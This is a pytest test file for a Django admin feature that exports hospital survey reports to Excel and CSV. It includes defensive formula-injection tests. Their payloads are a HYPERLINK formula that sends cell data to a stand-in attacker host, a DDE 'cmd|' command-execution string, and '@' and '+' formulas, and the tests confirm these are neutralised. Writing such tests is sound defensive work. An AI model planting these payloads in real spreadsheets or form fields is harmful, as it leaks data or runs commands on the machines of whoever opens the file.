"""导出总表: the reports the admin list shows, as one .xlsx, with no cell a spreadsheet
would evaluate."""

import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from excel_templates import exports
from excel_templates.writing import inert
from institutions.models import HospitalGrade
from surveys import editions, reports
from surveys.editions.base import Edition, Group, Item
from surveys.models import BasicInfo, Report
from tests.factories import AuditorFactory, InstitutionFactory, UserFactory
from tests.inert import assert_no_live_formula
from tests.surveys.helpers import EDITION, OPTIONAL_VALUES, all_filled
from tests.surveys.test_report_admin import (
    add_scan,
    deleted_report,
    draft_report,
    in_window,  # noqa: F401 (autouse fixture)
    submitted_report,
)

EXPORT = reverse("admin:surveys_report_export")
CHANGELIST = reverse("admin:surveys_report_changelist")
FIXED = [
    "医院全称",
    "行政区划",
    "医院等级",
    "医院类别",
    "数据年度",
    "总表版本",
    "当前状态",
    "提交时间",
]
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def desk(client, auditor):
    client.force_login(auditor)
    return client


def workbook(response):
    assert response.status_code == 200, response.content[:300]
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def sheet_rows(response):
    return [list(row) for row in workbook(response).active.iter_rows(values_only=True)]


def by_hospital(rows):
    header, *body = rows
    return {row[0]: dict(zip(header, row, strict=True)) for row in body}


def test_export_is_an_xlsx_attachment_named_with_the_date(desk, alice):
    draft_report(alice)

    response = desk.get(EXPORT)

    assert response["Content-Type"] == exports.XLSX
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert timezone.localdate().strftime("%Y%m%d") + ".xlsx" in disposition


def test_export_header_names_every_item_of_the_edition(desk, alice):
    draft_report(alice)

    header = sheet_rows(desk.get(EXPORT))[0]

    assert header == [*FIXED, *(EDITION.name_of(code) for code in EDITION.codes), "附件4状态"]


def test_export_row_holds_the_report(desk, alice):
    report = submitted_report(alice, values=all_filled())

    row = by_hospital(sheet_rows(desk.get(EXPORT)))["甲医院"]

    assert row["行政区划"] == "北京市市辖区东城区"
    assert row["医院等级"] == "三级甲等"
    assert row["数据年度"] == 2025
    assert row["总表版本"] == EDITION.id
    assert row["当前状态"] == "已提交"
    submitted = timezone.localtime(report.submitted_at).replace(tzinfo=None, microsecond=0)
    assert row["提交时间"].replace(microsecond=0) == submitted
    assert row[EDITION.name_of("ci_discharges")] == 400
    assert row[EDITION.name_of("dsa_24h")] == "是"
    assert row[EDITION.name_of("ctp_available")] == "否"
    assert row["附件4状态"] == "已上传"


def test_numbers_stay_numbers_and_blank_stays_blank(desk, alice):
    draft_report(alice, values=all_filled(ivt_tenecteplase=None))

    sheet = workbook(desk.get(EXPORT)).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    ci = row[header.index(EDITION.name_of("ci_discharges"))]
    blank = row[header.index(EDITION.name_of("ivt_tenecteplase"))]
    year = row[header.index("数据年度")]

    assert (ci.value, ci.data_type) == (400, "n")
    assert (year.value, year.data_type) == (2025, "n")
    assert blank.value is None


def test_attachment4_status_column(desk, alice, bob):
    draft_report(alice, values=all_filled())
    stale = draft_report(bob, values=all_filled())
    add_scan(stale, bob)
    reports.save_survey(stale, all_filled(ci_deaths=11), [], bob)

    rows = by_hospital(sheet_rows(desk.get(EXPORT)))

    assert rows["甲医院"]["附件4状态"] == "未上传"
    assert rows["乙医院"]["附件4状态"] == "已过期（总表在上传后有修改）"


# The list's filters and search -----------------------------------------------------------


def hospitals(response):
    return sorted(row[0] for row in sheet_rows(response)[1:])


@pytest.fixture
def three_reports(alice, bob):
    third = UserFactory(institution=InstitutionFactory(name="丙医院"))
    draft_report(alice, 2024)
    submitted_report(bob)
    draft_report(third)
    deleted_report(alice, 2025)


def test_export_without_filters_is_every_report_not_deleted(desk, three_reports):
    assert hospitals(desk.get(EXPORT)) == ["丙医院", "乙医院", "甲医院"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"data_year": "2025"}, ["丙医院", "乙医院"]),
        ({"province": "440000"}, ["乙医院"]),
        ({"status__exact": "submitted"}, ["乙医院"]),
        ({"q": "丙"}, ["丙医院"]),
        ({"deleted": "yes"}, ["甲医院"]),
        ({"deleted": "all", "data_year": "2025"}, ["丙医院", "乙医院", "甲医院"]),
        ({"data_year": "2025", "status__exact": "draft"}, ["丙医院"]),
    ],
)
def test_export_honours_the_lists_filters_and_search(desk, regions, three_reports, query, expected):
    assert hospitals(desk.get(EXPORT, query)) == expected


def test_export_of_the_grade_filter(desk, alice, bob):
    bob.institution.grade = HospitalGrade.GRADE_2A
    bob.institution.save()
    draft_report(alice)
    draft_report(bob)

    query = {"institution__grade__exact": HospitalGrade.GRADE_2A}
    assert hospitals(desk.get(EXPORT, query)) == ["乙医院"]


def test_export_covers_every_page_of_the_list(desk, monkeypatch):
    from excel_templates.admin import ReportAdmin

    monkeypatch.setattr(ReportAdmin, "list_per_page", 2)
    for n in range(5):
        draft_report(UserFactory(institution=InstitutionFactory(name=f"分页医院{n}")))

    assert len(hospitals(desk.get(EXPORT, {"p": "2"}))) == 5


def test_export_keeps_the_lists_order(desk, alice, bob):
    draft_report(alice)
    draft_report(bob)

    assert [row[0] for row in sheet_rows(desk.get(EXPORT, {"o": "-1"}))[1:]] == ["甲医院", "乙医院"]
    assert [row[0] for row in sheet_rows(desk.get(EXPORT, {"o": "1"}))[1:]] == ["乙医院", "甲医院"]


def test_export_with_a_bad_filter_goes_back_to_the_list_with_a_message(desk, alice):
    response = desk.get(EXPORT, {"no_such_field": "1"}, follow=True)

    assert response.redirect_chain[-1][0] == CHANGELIST
    assert "筛选条件有误" in response.text


def test_export_action_exports_the_selected_reports(desk, alice, bob):
    chosen = draft_report(alice)
    draft_report(bob)

    response = desk.post(
        CHANGELIST, {"action": "export_selected", "_selected_action": [chosen.pk], "index": 0}
    )

    assert hospitals(response) == ["甲医院"]


def test_export_query_count_does_not_grow_with_reports(
    desk, settings, django_assert_max_num_queries
):
    # The rate limiter's cache queries (tests/registry/test_ratelimit.py) are not counted here.
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "export": (None, None)}

    def add(n):
        for _ in range(n):
            user = UserFactory(institution=InstitutionFactory())
            add_scan(draft_report(user, values=all_filled()), user)

    add(2)
    with django_assert_max_num_queries(40) as few:
        hospitals(desk.get(EXPORT))
    add(15)
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert len(hospitals(desk.get(EXPORT))) == 17


# Formula injection --------------------------------------------------------------------------


def assert_inert(response):
    assert assert_no_live_formula(workbook(response)) > 0


@pytest.mark.parametrize(
    "name",
    [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"],
)
def test_an_institution_name_comes_out_inert(desk, name):
    user = UserFactory(institution=InstitutionFactory(name=name))
    draft_report(user)

    assert_inert(desk.get(EXPORT))
    # The name comes out as it is (XML keeps a carriage return as a line feed).
    assert sheet_rows(desk.get(EXPORT))[1][0] == name.replace("\r", "\n")


def test_a_basic_info_snapshot_comes_out_inert(desk, alice):
    report = submitted_report(alice)
    report.basic_info_snapshot = [
        [label, ATTACK if label in ("医院全称", "行政区划", "医院类别") else value]
        for label, value in report.basic_info_snapshot
    ]
    Report.objects.filter(pk=report.pk).update(basic_info_snapshot=report.basic_info_snapshot)

    response = desk.get(EXPORT)

    assert_inert(desk.get(EXPORT))
    row = sheet_rows(response)[1]
    assert row[0] == row[1] == row[3] == ATTACK


def test_live_basic_info_of_a_draft_comes_out_inert(desk, alice):
    draft_report(alice)
    from tests.surveys.test_basic_info import make_basic_info

    make_basic_info(alice)
    BasicInfo.objects.filter(institution=alice.institution).update(hospital_name="@evil()")

    assert sheet_rows(desk.get(EXPORT))[1][0] == "@evil()"
    assert_inert(desk.get(EXPORT))


def test_inert_keeps_ordinary_text_and_drops_control_characters():
    from openpyxl import Workbook

    sheet = Workbook().active
    assert inert(sheet["A1"], "北京协和医院").value == "北京协和医院"
    assert (inert(sheet["A2"], "A=B").value, sheet["A2"].quotePrefix) == ("A=B", False)
    assert inert(sheet["A3"], "医院\x00\x07名").value == "医院名"
    assert (inert(sheet["A4"], "\x00=1").value, sheet["A4"].data_type) == ("=1", "s")


# Editions --------------------------------------------------------------------------------


def test_reports_of_two_editions_share_the_union_of_items(desk, alice, bob, monkeypatch):
    newer = Edition(
        id="2099",
        title="测试版",
        year_label="",
        groups=(
            Group(
                code="A",
                title="出院患者",
                items=(
                    Item("neuro_discharges_total", "神经科出院患者总例数", "A"),
                    Item("new_item", "新增项目", "A", required=False),
                ),
            ),
        ),
    )
    monkeypatch.setitem(editions.EDITIONS, newer.id, newer)
    draft_report(alice, values=all_filled())
    later = draft_report(bob)
    Report.objects.filter(pk=later.pk).update(
        edition=newer.id, values={"neuro_discharges_total": 7, "new_item": 3}
    )

    rows = sheet_rows(desk.get(EXPORT))

    header = rows[0]
    assert header[len(FIXED) : -1] == [*(EDITION.name_of(c) for c in EDITION.codes), "新增项目"]
    table = by_hospital(rows)
    assert table["乙医院"][EDITION.name_of("neuro_discharges_total")] == 7
    assert table["乙医院"]["新增项目"] == 3
    assert table["乙医院"][EDITION.name_of("ci_discharges")] is None
    assert table["甲医院"]["新增项目"] is None


def test_item_columns_skip_unknown_editions():
    assert exports.item_columns(["no-such-edition"]) == []
    assert [code for code, _ in exports.item_columns([EDITION.id])] == list(EDITION.codes)


# Who may export ----------------------------------------------------------------------------


def test_staff_who_may_view_reports_may_export(client, alice):
    viewer = AuditorFactory(username="viewer", is_superuser=False, auditor_group=False)
    viewer.user_permissions.add(Permission.objects.get(codename="view_report"))
    draft_report(alice)
    client.force_login(viewer)

    assert hospitals(client.get(EXPORT)) == ["甲医院"]


def test_a_hospital_user_cannot_export(client, alice):
    draft_report(alice)
    client.force_login(alice)

    response = client.get(EXPORT)

    assert response.status_code == 302
    assert response.url.startswith(reverse("admin:login"))


def test_the_optional_values_are_exported_too(desk, alice):
    draft_report(alice, values=all_filled())

    row = by_hospital(sheet_rows(desk.get(EXPORT)))["甲医院"]

    for code, value in OPTIONAL_VALUES.items():
        expected = ("是" if value else "否") if isinstance(value, bool) else value
        assert row[EDITION.name_of(code)] == expected, code


# Streamed, and as CSV (issue 21 item 3) ------------------------------------------------------


def csv_table(response):
    import codecs
    import csv

    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8)  # so that Excel reads the Chinese as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_export_streams_from_the_first_row(desk, alice):
    from django.http import StreamingHttpResponse

    draft_report(alice)

    response = desk.get(EXPORT, {"format": "csv"})

    assert isinstance(response, StreamingHttpResponse)
    first = next(iter(response.streaming_content))
    assert first.decode("utf-8-sig").split(",")[: len(FIXED)] == FIXED
    assert isinstance(desk.get(EXPORT), StreamingHttpResponse)  # the .xlsx too


def test_csv_export_holds_the_same_rows_as_the_workbook(desk, alice, bob):
    submitted_report(alice, values=all_filled())
    draft_report(bob)

    table = csv_table(desk.get(EXPORT, {"format": "csv", "o": "-1"}))
    sheet = sheet_rows(desk.get(EXPORT, {"o": "-1"}))

    assert table[0] == sheet[0]
    assert [row[0] for row in table[1:]] == ["甲医院", "乙医院"]
    row = dict(zip(table[0], table[1], strict=True))
    assert row[EDITION.name_of("ci_discharges")] == "400"
    assert row[EDITION.name_of("dsa_24h")] == "是"
    assert row["提交时间"] == timezone.localtime(
        Report.objects.get(institution=alice.institution).submitted_at
    ).strftime("%Y-%m-%d %H:%M")


@pytest.mark.parametrize("name", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"])
def test_an_institution_name_comes_out_inert_in_the_csv(desk, name):
    draft_report(UserFactory(institution=InstitutionFactory(name=name)))

    assert csv_table(desk.get(EXPORT, {"format": "csv"}))[1][0] == "'" + name


def test_csv_export_keeps_the_lists_filters(desk, regions, three_reports):
    table = csv_table(desk.get(EXPORT, {"format": "csv", "province": "440000"}))

    assert [row[0] for row in table[1:]] == ["乙医院"]


def test_the_list_offers_the_csv_export(desk, alice):
    draft_report(alice)

    page = desk.get(CHANGELIST, {"data_year": "2025"}).text

    assert f'href="{EXPORT}?data_year=2025&amp;format=csv"' in page
